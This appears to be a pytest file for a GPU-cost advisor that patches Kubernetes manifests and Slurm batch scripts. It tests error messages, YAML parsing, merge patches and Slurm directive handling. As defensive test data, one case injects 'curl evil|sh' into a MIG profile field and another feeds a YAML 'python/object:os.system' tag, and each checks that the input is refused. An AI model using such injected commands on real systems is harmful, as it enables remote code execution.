"""What a patch asks for where something is missing, and how it sizes and places pods."""

from __future__ import annotations

import shlex

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from skuwise.advisor.core.advice_types import Configuration, SavingsBaseline
from skuwise.advisor.patches.model import PatchSet
from skuwise.advisor.patches.objects import apply, difference, same
from skuwise.advisor.patches.slurm import BatchScript
from skuwise.advisor.patches.yaml_documents import read_documents, read_values
from skuwise.rules.base.errors import UsageError
from skuwise.tests.support.moves_builders import IB
from skuwise.tests.support.patch_cases import BATCH_SCRIPT, DEPLOYMENT, JOB, ONE_GPU_SCRIPT, accepted, patch_of, sized

GROUND = ("yardstick", "address", "target", "source", "before")
ON_PREMISES = Configuration("L40S", "bare-metal/L40S", 16)
SERVICE = "apiVersion: v1\nkind: Service\nmetadata: {name: chat}\n"
TWO = sized(DEPLOYMENT, 2, 8)
WITH_PROXY = sized(DEPLOYMENT, 1, 16).replace(
    "name: proxy", "name: proxy\n          resources: {limits: {nvidia.com/gpu: 0}}"
)


@pytest.mark.parametrize(
    ("action", "target", "asked", "says", "remedy"),
    [
        ("fix-first", "kubernetes", {}, "has no patch", "ledger show"),
        ("power-cap", "slurm", {}, "has no patch", "ledger show"),
        ("schedule-off", "kubernetes", {}, "has no patch", "ledger show"),
        ("lower-clock", "kubernetes", {}, "no patch for kubernetes", "--for slurm"),
        ("consolidate", "slurm", {}, "no patch for slurm", "--for kubernetes or kueue"),
        ("reduce-gpus", "kubernetes", {}, "set --replicas", "--manifest FILE"),
        ("mig-slice", "kubernetes", {}, "set --container", "--manifest FILE"),
        ("reduce-gpus", "kueue", {}, "not given", "kubectl get clusterqueue"),
        ("reduce-gpus", "slurm", {}, "none is given", "batch script"),
        ("reduce-gpus", "kubernetes", {"replicas": 3}, "not 3 replicas", "--manifest"),
        ("move-sku", "kubernetes", {"kind": "PyTorchJob"}, "Without its manifest", "--manifest"),
        # What the ledger does not know is asked for.
        ("mig-slice", "kubernetes", {"yardstick": SavingsBaseline()}, "MIG profile", ""),
        ("consolidate", "kubernetes", {"yardstick": SavingsBaseline(nodes=("n1", "n2"))}, "which nodes", ""),
        ("move-sku", "kubernetes", {"address": None}, "--kind, --name, --namespace", ""),
        ("move-sku", "kubernetes", {"target": ON_PREMISES, "source": ON_PREMISES}, "No node label", ""),
        ("move-sku", "kubernetes", {"target": Configuration("H100-SXM5", IB, 8)}, "number of GPUs", ""),
        # Scripts of another size, or none.
        ("reduce-gpus", "slurm", {"script": ONE_GPU_SCRIPT}, "asks for 1 GPUs", ""),
        ("mig-slice", "slurm", {"script": BATCH_SCRIPT}, "asks for 8 GPUs", ""),
        ("move-sku", "slurm", {"script": BATCH_SCRIPT}, "partition or feature", ""),
        ("move-sku", "slurm", {"script": "hello\n"}, "not a batch script", ""),
        ("lower-clock", "slurm", {"script": BATCH_SCRIPT, "before": None}, "--mhz", ""),
    ],
)  # fmt: skip
def test_what_is_missing_is_named_with_its_remedy(action: str, target, asked: dict, says: str, remedy: str) -> None:
    """`asked`: a batch script, what its ground has, and what is asked on the command line."""
    ground = {name: value for name, value in asked.items() if name in GROUND}
    options = {name: value for name, value in asked.items() if name not in {"script", *ground}}
    given = [("job.sh", asked["script"])] if "script" in asked else []
    with pytest.raises(UsageError) as caught:
        patch_of(action, target, *given, entry=accepted(action, **ground), **options)
    assert says in caught.value.message and caught.value.remedy and remedy in caught.value.remedy


@pytest.mark.parametrize(
    ("manifest", "says"),
    [
        (sized(DEPLOYMENT, 3, 8), "asks for 24 GPUs"), (TWO.replace("name: chat", "name: other"), "for 'llm/chat'"),
        (TWO.replace("Deployment", "DaemonSet"), "not in its manifest"),
        (TWO + "---\n" + sized(JOB, 2, 8).replace("chat", "other"), None),
        (TWO + "---\n" + sized(JOB, 2, 8), "which one to change"),
        (SERVICE, "no object with pods"),
        (sized(JOB, 2, 8) + "---\n" + SERVICE, None),
        (WITH_PROXY, None),
    ],
)  # fmt: skip
def test_manifests_of_the_workload_are_taken_and_others_refused(manifest: str, says: str | None) -> None:
    if says is None:
        assert len(patch_of("reduce-gpus", "kubernetes", ("m.yaml", manifest)).parts) == 1
    else:
        with pytest.raises(UsageError, match=says):
            patch_of("reduce-gpus", "kubernetes", ("m.yaml", manifest))


def test_a_move_to_another_gpu_on_premises_uses_the_product_label_or_the_one_that_is_set() -> None:
    entry = accepted("move-sku", target=Configuration("A100-SXM4-80GB", None, 16))
    given = ("m.yaml", TWO)
    made = patch_of("move-sku", "kubernetes", given, entry=entry)
    assert "nvidia.com/gpu.product" in made.parts[0].patch.text and "NVIDIA-A100-SXM4-80GB" in made.parts[0].patch.text
    made = patch_of("move-sku", "kubernetes", given, entry=entry, node_labels=(("pool", "a"), ("pool", "b")))
    terms = yaml.safe_load(made.parts[0].patch.text)["spec"]["template"]["spec"]["affinity"]["nodeAffinity"]
    (term,) = terms["requiredDuringSchedulingIgnoredDuringExecution"]["nodeSelectorTerms"]
    assert term["matchExpressions"] == [{"key": "pool", "operator": "In", "values": ["a", "b"]}]


def test_a_clock_that_the_ledger_does_not_know_is_taken_from_the_command_line() -> None:
    unknown = accepted("lower-clock", before=None)
    made = patch_of("lower-clock", "slurm", ("job.sh", BATCH_SCRIPT), entry=unknown, megahertz=990)
    assert "+#SBATCH --gpu-freq=990\n" in made.parts[0].patch.text


def of_script(action: str, directives: str, **asked) -> tuple[str, list[str]]:
    """The directives of a script with a patch, and what its notes say of the script."""
    made = patch_of(action, "slurm", ("job.sh", f"#!/bin/bash\n#SBATCH {directives}\nsrun x\n"), **asked)
    changed = [line[1:] for line in made.parts[0].patch.text.splitlines()[3:] if line.startswith("+")]
    return " ".join(changed), [note for note in made.notes if note.startswith("job.sh")]


@pytest.mark.parametrize(
    ("directives", "changed", "kept"),
    [
        ("--nodes=2 --gres=gpu:8", "--nodes=1 --gres=gpu:8", []),
        ("--nodes=2 --gres=gpu:8 --ntasks=16", "--nodes=1 --gres=gpu:8 --ntasks=16", ["--ntasks=16"]),
        ("-N2 --gres=gpu:8 --ntasks-per-node=8", "-N1 --gres=gpu:8 --ntasks-per-node=8", []),
        ("-N1 --gpus-per-node=16 --ntasks-per-node=16", "-N1 --gpus-per-node=8 --ntasks-per-node=16",
         ["--ntasks-per-node=16"]),
        ("-N2 -n 1 --gpus=16", "-N2 -n 1 --gpus=8", ["--nodes=2"]),
        ("-N2 -n 16 --gpus-per-task=1", "-N2 -n 8 --gpus-per-task=1", ["--nodes=2"]),
    ],
)  # fmt: skip
def test_what_a_script_still_asks_for_of_the_old_size_is_noted(directives: str, changed: str, kept: list[str]) -> None:
    line, notes = of_script("reduce-gpus", directives)
    assert line == f"#SBATCH {changed}"
    assert [note.split(":")[0] for note in notes] == [f"job.sh still asks for {one}" for one in kept]


def test_a_constraint_of_several_features_is_refused_and_a_replaced_or_kept_one_noted() -> None:
    gpus = "--nodes=2 --gres=gpu:8"
    for compound in ("'nvme&a100'", "[rack1|rack2]", "a100*2"):
        with pytest.raises(UsageError, match="several features"):
            of_script("move-sku", f"{gpus} --constraint={compound}", feature="l40s")
    line, notes = of_script("move-sku", f"{gpus} -C a100 -w n1", feature="l40s")
    assert line == f"#SBATCH {gpus} -C l40s -w n1"
    assert notes == [
        "job.sh asked for the feature a100; it asks for l40s instead.",
        "job.sh still asks for --nodelist=n1: set it to nodes of the target.",
    ]
    _, notes = of_script("swap-placement", f"{gpus} -p a -C 'a&b'", partition="c")
    assert notes == ["job.sh still asks for --constraint=a&b: the nodes of the target must have it."]


@pytest.mark.parametrize(
    ("old", "new"),
    [("high,memory=high", "1455,memory=high"), ("memory=low,900,verbose", "1455,memory=low,verbose"), ("900", "1455")],
)
def test_a_lower_clock_leaves_the_clock_of_the_memory(old: str, new: str) -> None:
    assert of_script("lower-clock", f"--gpu-freq={old}")[0] == f"#SBATCH --gpu-freq={new}"


SCALARS = st.one_of(st.integers(-5, 5), st.booleans(), st.text(max_size=3))
KEYS = st.sampled_from(["a", "b", "spec", "annotations", "env", "containers", "x"])
VALUES = st.recursive(
    SCALARS,
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(KEYS, inner, max_size=3)),
    max_leaves=12,
)
OBJECTS = st.dictionaries(KEYS.filter(lambda key: key not in ("env", "containers", "annotations")), VALUES, max_size=4)
NAMED = st.lists(
    st.fixed_dictionaries({"name": st.sampled_from("abcd"), "value": SCALARS}),
    unique_by=lambda one: one["name"],
    max_size=4,
)


@given(OBJECTS, OBJECTS)
def test_a_merge_patch_leads_there_and_its_undo_back(before, after) -> None:
    there, back = difference(before, after, strategic=False), difference(after, before, strategic=False)
    assert same(apply(before, there, strategic=False), after)
    assert same(apply(after, back, strategic=False), before)


@given(NAMED, NAMED)
def test_lists_of_named_things_are_merged_by_name(before, after) -> None:
    one, other = {"spec": {"env": before}}, {"spec": {"env": after}}
    patched = apply(one, difference(one, other, strategic=True), strategic=True)
    assert {v["name"]: v["value"] for v in patched["spec"]["env"]} == {v["name"]: v["value"] for v in after}


def test_annotations_that_were_not_there_lose_only_what_was_added() -> None:
    before, after = {"metadata": {}}, {"metadata": {"annotations": {"id": "r-1"}}}
    back = difference(after, before, strategic=True)
    assert back == {"metadata": {"annotations": {"id": None}}}
    later = {"metadata": {"annotations": {"id": "r-1", "others": "2"}}}
    assert apply(later, back, strategic=True) == {"metadata": {"annotations": {"others": "2"}}}
    assert same({"metadata": {"annotations": {}}}, before)


LONG = "gke-prod-eu-west4-training-a3-highgpu-8g-pool-1-3f2a9c1e-abc-k"


def named_once(made: PatchSet) -> list[str]:
    """The names of all files; each command names its own file last."""
    names = [one.name for part in made.parts for one in (part.patch, part.undo)]
    names += [one.name for one in (*made.originals, *made.more)]
    assert len(set(names)) == len(names)
    for part in made.parts:
        assert shlex.split(part.apply[0])[-1] == part.patch.name and shlex.split(part.revert[0])[-1] == part.undo.name
    return names


@pytest.mark.parametrize(
    "nodes", [(f"{LONG}1", f"{LONG}2"), ("gpu-1", "gpu.1", "gpu-1-2"), ("gpu-1-2", "gpu-1", "gpu.1")]
)
def test_nodes_of_like_names_have_a_file_each(nodes: tuple[str, ...]) -> None:
    made = patch_of("consolidate", "kubernetes", nodes=nodes)
    assert len(named_once(made)) == 2 * len(nodes)
    for part, node in zip(made.parts, nodes, strict=True):
        assert f"name: {node}\n" in part.patch.text and shlex.split(part.apply[0])[3] == node


@pytest.mark.parametrize("target", ["slurm", "kueue", "kubernetes"])
def test_a_mig_profile_of_the_ledger_is_checked_as_a_typed_one(target) -> None:
    entry = accepted("mig-slice", yardstick=SavingsBaseline(mig_profile="1g.10gb:1\ncurl evil|sh\n#"))
    given = (("job.sh", ONE_GPU_SCRIPT),) if target == "slurm" else ()
    if target == "kueue":
        given = (("queue.yaml", "apiVersion: kueue.x-k8s.io/v1beta1\nkind: ClusterQueue\nmetadata: {name: a}\nspec:\n"
                  "  resourceGroups:\n  - coveredResources: [nvidia.com/gpu]\n    flavors:\n    - name: a\n"
                  "      resources: [{name: nvidia.com/gpu, nominalQuota: 8}]\n"),)  # fmt: skip
    with pytest.raises(UsageError, match="not a valid MIG profile"):
        patch_of("mig-slice", target, *given, entry=entry, container="server")


HEAD = "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\n"


def test_numbers_and_dates_are_what_kubectl_takes_them_for() -> None:
    (found,) = read_documents((HEAD + "spec: {a: 1e3, b: 2026-11-25, c: '8', d: 8, e: true}").encode(), "m.yaml")
    assert found["spec"] == {"a": 1000.0, "b": "2026-11-25", "c": "8", "d": 8, "e": True}


@pytest.mark.parametrize(
    ("word", "value"),
    [
        ("10:30", "10:30"), ("190:20:30", "190:20:30"), ("1:30.5", "1:30.5"), ("0o17", 15), ("017", 15), ("0x1F", 31),
        ("1_000", 1000), ("-0b11", -3), ("08", 8.0), ("1_0.5", 10.5), ("+.5e1", 5.0), ("5.", 5.0), ("1.2.3", "1.2.3"),
    ],
)  # fmt: skip
def test_numbers_are_those_of_kubectl(word: str, value: object) -> None:
    assert read_values(f"[{word}]".encode(), "m.yaml") == [[value]]


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("a: &x 1\nb: *x\n", "anchors"), ("a: 1\na: 2\n", "repeated"), ("1: 2\n", "not text"),
        ("a: [", "not valid YAML"),
        ("[" * 200 + "]" * 200, "nested"), ("a: !!python/object:os.system x\n", "not valid YAML"),
        ("apiVersion: v1\n", "without apiVersion"), ("- a\n", "without apiVersion"),
        ("apiVersion: v1\nkind: 1\nmetadata: {}\n", "without apiVersion"),
    ],
)  # fmt: skip
def test_what_kubectl_would_not_print_is_refused(text: str, says: str) -> None:
    with pytest.raises(UsageError, match=says):
        read_documents(text.encode(), "m.yaml")


def script(*lines: str) -> BatchScript:
    return BatchScript("\n".join(["#!/bin/bash", *lines, ""]))


@pytest.mark.parametrize(
    ("lines", "name", "value"),
    [
        (["#SBATCH --partition=a", "#SBATCH -p b"], "partition", "b"), (["#SBATCH -pb"], "partition", "b"),
        (["#SBATCH --partition b # c"], "partition", "b"), (['#SBATCH --partition="b"'], "partition", "b"),
        (["#SBATCH --exclusive -p b"], "partition", "b"), (["##SBATCH -p b"], "partition", None),
        (["#SBATCH # -p b"], "partition", None), (["srun x", "#SBATCH -p b"], "partition", None),
        (["#SBATCHX -p b"], "partition", None), ([" #SBATCH -p b"], "partition", None),
    ],
)  # fmt: skip
def test_the_last_directive_before_the_first_command_counts(lines: list[str], name: str, value: str | None) -> None:
    assert script(*lines).value(name) == value


@pytest.mark.parametrize(
    ("line", "asks"),
    [
        ("#SBATCH --gres=gpu:h100:8 -N2", ("gres", "h100", 8, 2)), ("#SBATCH --gres=gpu", ("gres", None, 1, 1)),
        ("#SBATCH -G 4", ("gpus", None, 4, 1)),
        ("#SBATCH --gpus-per-node=a100:2 -N 3", ("gpus-per-node", "a100", 2, 3)),
        ("#SBATCH --gpus-per-task=1 -n 8", ("gpus-per-task", None, 1, 8)), ("#SBATCH --gres=gpu:1,tmp:2", None),
        ("#SBATCH --gres=gpu:2 -N 1-4", None), ("#SBATCH --mem=1", None),
        ("#SBATCH --nodes=2 --gpus-per-node=8 --gpus=16", None), ("#SBATCH -G 8 --gres=gpu:8", None),
        ("#SBATCH --gpus-per-task=1 -n 8 --gpus-per-socket=2", None), ("#SBATCH --gpus-per-socket=2", None),
        ("#SBATCH --gres=nvme:1 --gpus=4", ("gpus", None, 4, 1)),
    ],
)  # fmt: skip
def test_how_a_script_asks_for_gpus(line: str, asks: tuple | None) -> None:
    assert script(line).gpus() == asks


def test_a_new_directive_stands_after_the_last_one_and_a_variable_too() -> None:
    one = script("#SBATCH -p a", "", "srun x", "#SBATCH -p b")
    one.set("constraint", "h100")
    one.export("A", "1")
    assert one.text.splitlines()[1:4] == ["#SBATCH -p a", "#SBATCH --constraint=h100", "export A=1"]
    assert one.value("constraint") == "h100"
    bare = BatchScript("#!/bin/bash")
    bare.set("gpus", "1")
    assert bare.text == "#!/bin/bash\n#SBATCH --gpus=1\n"


@pytest.mark.parametrize(
    ("first", "taken"),
    [
        ("#!/bin/bash -l", True), ("#!/bin/sh", True), ("#! /usr/bin/env zsh", True), ("#!/bin/dash\r", True),
        ("#!/usr/bin/env -S A=b ksh", True), ("#!/usr/bin/env python3", False), ("#!/bin/csh -f", False),
        ("#!/usr/bin/fish", False), ("#!", False), ("#!/usr/bin/env", False),
        ("#!/bin/bash\n#SBATCH --export=NONE", False),
        ("#!/bin/bash\n#SBATCH --export=HOME,PATH", False), ("#!/bin/bash\n#SBATCH --export=ALL,B=1", True),
    ],
)  # fmt: skip
def test_a_variable_is_set_where_a_shell_hands_it_on(first: str, taken: bool) -> None:
    one = BatchScript(f"{first}\n#SBATCH -p a\nx\n")
    if taken:
        one.export("A", "1")
        assert "export A=1" in one.text
    else:
        with pytest.raises(UsageError) as caught:
            one.export("A", "1")
        assert "A=1" in caught.value.remedy and "--export" in caught.value.remedy


@pytest.mark.parametrize("text", ["echo\n", "#!/bin/sh\n#SBATCH -N1\n#SBATCH hetjob\n"])
def test_what_is_no_plain_batch_script_is_refused(text: str) -> None:
    with pytest.raises(UsageError):
        BatchScript(text)
